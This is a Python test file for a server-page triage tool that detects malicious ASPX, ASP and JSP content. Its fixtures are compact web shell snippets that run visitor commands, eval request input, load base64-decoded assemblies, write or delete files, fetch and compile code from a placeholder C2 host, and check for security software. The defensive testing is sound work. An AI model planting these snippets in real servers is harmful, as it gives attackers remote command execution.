"""Server pages: what is run, written and deleted, and whether it is what a visitor sends."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.core.errors import LimitHit
from vedette.core.nouns import Lines
from vedette.core.text import cut
from vedette.triage.allowance import Allowance, Bounds
from vedette.triage.fact import Act, Fact
from vedette.triage.facts import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

SHARP = '<%@ Page Language="C#" %>'


def read(text: str) -> list[Fact]:
    return list(facts(Sample(name="a.aspx", data=text.encode(), kind=Kind.SERVER_PAGE), Allowance()))


def fed(text: str, act: Act) -> set[Act]:
    """Return what flows into facts of one act."""
    return {one.act for fact in read(text) if fact.act is act for one in fact.inputs}


@pytest.mark.parametrize(
    ("text", "act", "source"),
    [
        (SHARP + '<% Process.Start("cmd.exe", Request["c"]); %>', Act.RUNS_COMMAND, Act.READS_INPUT),
        (
            SHARP + '<script runat="server">string Do(string a) { var p = new ProcessStartInfo();\n'
            'p.Arguments = "/c " + a; return Process.Start(p).ToString(); }\n'
            'void Page_Load(object sender, EventArgs e) { Response.Write(Do(Request.Form["x"])); }</script>',
            Act.RUNS_COMMAND,
            Act.READS_INPUT,
        ),
        (
            SHARP
            + '<script runat="server">void Go(object s, EventArgs e) { Process.Start("cmd", box.Text); }'
            '</script><asp:TextBox id="box" runat="server" />',
            Act.RUNS_COMMAND,
            Act.READS_INPUT,
        ),
        (
            SHARP + '<% byte[] b = Convert.FromBase64String(Request["p"]); Assembly.Load(b); %>',
            Act.RUNS_CODE,
            Act.DECODES,
        ),
        (
            '<%@ Page Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>',
            Act.RUNS_CODE,
            Act.READS_INPUT,
        ),
        ('<%eval request("a")%>', Act.RUNS_CODE, Act.READS_INPUT),
        ('<% Dim c\nc = Request.Form("a") \' read it\nExecuteGlobal c\n%>', Act.RUNS_CODE, Act.READS_INPUT),
        (
            '<% Set w = Server.CreateObject("WScript.Shell")\nSet r = w.Exec("cmd /c " & Request("c")) %>',
            Act.RUNS_COMMAND,
            Act.READS_INPUT,
        ),
        (
            (
                '<%@page import="java.io.*"%><% String c = request.getParameter("c");'
                " Process p = Runtime.getRuntime().exec(c); %>"
            ),
            Act.RUNS_COMMAND,
            Act.READS_INPUT,
        ),
        (
            (
                '<%@ page language="java"%><% byte[] d = base64Decode(request.getReader().readLine());'
                " new U(this.getClass().getClassLoader()).defineClass(d); %>"
            ),
            Act.RUNS_CODE,
            Act.READS_INPUT,
        ),
        (
            (
                '<%@ WebHandler Language="C#" Class="H" %>\n'
                "class H { public void ProcessRequest(HttpContext c)"
                ' { File.WriteAllText(c.Request["p"], c.Request["d"]); } }'
            ),
            Act.WRITES_FILE,
            Act.READS_INPUT,
        ),
        (
            SHARP + '<% var w = new System.Net.WebClient(); var d = w.DownloadString("http://c2.invalid/a");'
            " CSharp.CompileAssemblyFromSource(o, d); %>",
            Act.RUNS_CODE,
            Act.DOWNLOADS,
        ),
        (
            SHARP + '<% \\u0052equest["a"]; Process.Start(\\u0052equest["a"]); %>',
            Act.RUNS_COMMAND,
            Act.READS_INPUT,
        ),
        (
            SHARP + "<% foreach (string one in Request.Params[\"a\"].Split(',')) { File.Delete(one); } %>",
            Act.DELETES_FILES,
            Act.READS_INPUT,
        ),
    ],
)
def test_what_runs_knows_where_it_came_from(text: str, act: Act, source: Act) -> None:
    assert source in fed(text, act)


@pytest.mark.parametrize(
    "text",
    [
        SHARP + '<p><%# Eval("Name") %></p><% Response.Write(Server.HtmlEncode(Request["q"])); %>',
        SHARP + '<% // Process.Start(Request["a"]);\n/* eval(Request["a"]) */ var a = "eval(Request)"; %>',
        '<%-- Process.Start(Request["a"]) --%>' + SHARP,
        '<% \' Execute Request("a")\nResponse.Write "Execute Request" %>',
        '<%@page import="java.util.*"%><%= request.getParameter("a").length() %>',
    ],
)
def test_ordinary_pages_run_nothing_of_others(text: str) -> None:
    assert not fed(text, Act.RUNS_CODE) | fed(text, Act.RUNS_COMMAND)


def test_what_has_no_part_in_it_does_not_flow() -> None:
    text = SHARP + '<% var a = Request["a"]; var b = "backup.exe"; Response.Write(a); Process.Start(b); %>'
    assert Act.READS_INPUT not in fed(text, Act.RUNS_COMMAND)


def test_a_look_for_what_protects_the_host() -> None:
    text = SHARP + '<% if (File.Exists("c:\\\\program files\\\\crowdstrike\\\\csfalconservice.exe")) { } %>'
    assert Act.EVADES in {one.act for one in read(text)}


@pytest.mark.parametrize("before", ["", "é\n", "\n\n  "])
def test_a_quote_stands_where_its_place_is(before: str) -> None:
    text = f'{before}<%@ Page Language="C#" %>é<% Process.Start(Request["c"]); %>'
    (fact,) = [one for one in read(text) if one.act is Act.RUNS_COMMAND]
    assert isinstance(fact.place, Lines)
    assert cut(text, fact.place) == fact.quote
    assert fact.quote.startswith("Process.Start(")


@given(st.text(max_size=400))
def test_any_page_is_read_and_quoted_to_the_letter(text: str) -> None:
    page = f'<%@ Page %><% {text} eval(Request["a"]);Process.Start(x);\n %>'
    for fact in read(page):
        for one in (fact, *fact.inputs):
            assert isinstance(one.place, Lines)
            assert cut(page, one.place) == one.quote


def test_a_page_that_is_too_much_work_is_a_limit() -> None:
    sample = Sample(name="a", data=b"<%@ Page %><% " + b"a = a;" * 2000, kind=Kind.SERVER_PAGE)
    with pytest.raises(LimitHit):
        list(facts(sample, Allowance(bounds=Bounds(fuel=500))))


@pytest.mark.parametrize(
    ("text", "act"),
    [
        (
            SHARP + "<% var c = (MachineKeySection) get(); Response.Write(c.ValidationKey); %>",
            Act.READS_SECRET,
        ),
        (SHARP + "<% foreach (var p in Process.GetProcesses()) Response.Write(p.Id); %>", Act.READS_HOST),
        (SHARP + '<% var p = new CSharpCodeProvider(); p.Run(Request["a"]); %>', Act.RUNS_CODE),
        (SHARP + '<% XamlReader.Parse(Request["a"]); %>', Act.RUNS_CODE),
        (SHARP + '<% [DllImport("kernel32")] x; WinExec(Request["a"], 0); %>', Act.RUNS_COMMAND),
    ],
)
def test_other_ways_of_pages_are_told(text: str, act: Act) -> None:
    assert act in {one.act for one in read(text)}


@pytest.mark.parametrize(
    "text",
    [
        SHARP + "<% grid.DataKeyNames = names; %>",
        SHARP + "<% Process p = null; %>",
        SHARP + "<% WinExec(1, 0); %>",
    ],
)
def test_what_only_resembles_them_is_not(text: str) -> None:
    assert not {one.act for one in read(text)} & {Act.READS_SECRET, Act.READS_HOST, Act.RUNS_COMMAND}
